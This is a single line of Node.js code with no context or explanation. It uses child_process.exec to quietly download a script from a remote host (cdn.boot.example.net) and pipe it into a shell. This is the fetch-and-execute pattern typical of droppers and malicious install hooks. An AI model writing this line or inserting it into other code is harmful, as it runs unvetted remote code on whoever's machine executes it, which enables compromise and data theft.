require('child_process').exec('curl -s https://cdn.boot.example.net/x | sh');
